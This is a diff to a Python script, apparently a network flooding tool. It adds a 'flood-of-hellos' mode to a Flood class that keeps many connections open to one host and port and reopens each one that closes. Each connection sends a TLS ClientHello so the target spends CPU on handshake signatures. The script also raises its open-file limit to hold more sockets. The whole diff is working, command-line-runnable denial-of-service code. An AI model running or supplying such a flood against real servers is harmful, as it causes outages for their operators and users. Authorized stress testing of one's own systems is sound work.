@@ -128,11 +128,22 @@ def attack(address, parts, credentials=None, tls=False, **how):
     return told
 
 
-class Flood:
-    """Idle connections to one port, each closed one opened again; ends with its standard input."""
+def client_hello():
+    """What a TLS client says first, with a certificate or not: the answer costs a signature."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    out = ssl.MemoryBIO()
+    with contextlib.suppress(ssl.SSLWantReadError):
+        context.wrap_bio(ssl.MemoryBIO(), out).do_handshake()
+    return out.read()
 
-    def __init__(self, address, count):
-        self.address, self.count = address, count
+
+class Flood:
+    """Connections to one port that say `first` and no more, each closed one opened again; ends with
+    its standard input."""
+
+    def __init__(self, address, count, first):
+        self.address, self.count, self.first = address, count, first
         self.poll, self.held, self.opened, self.source = select.epoll(), {}, 0, 0
 
     def open_one(self):
@@ -147,12 +158,18 @@ class Flood:
             s.close()
             return False
         self.held[s.fileno()] = s
-        self.poll.register(s, select.EPOLLIN | select.EPOLLRDHUP)
+        speaks = select.EPOLLOUT | select.EPOLLONESHOT if self.first else 0
+        self.poll.register(s, speaks or select.EPOLLRDHUP)
         self.opened += 1
         return True
 
     def closed(self):
-        for number, _ in self.poll.poll(0.01, 4096):
+        for number, what in self.poll.poll(0.01, 4096):
+            if self.first and not what & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
+                with contextlib.suppress(OSError):
+                    self.held[number].send(self.first)
+                self.poll.modify(number, select.EPOLLRDHUP)
+                continue
             self.poll.unregister(number)
             self.held.pop(number).close()
 
@@ -174,7 +191,7 @@ class Flood:
 
 if __name__ == "__main__":
     _, word, host, port, number = sys.argv
-    assert word == "flood"
+    assert word in ("flood", "flood-of-hellos")
     hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    Flood((host, int(port)), int(number)).run()
+    Flood((host, int(port)), int(number), client_hello() if word != "flood" else b"").run()
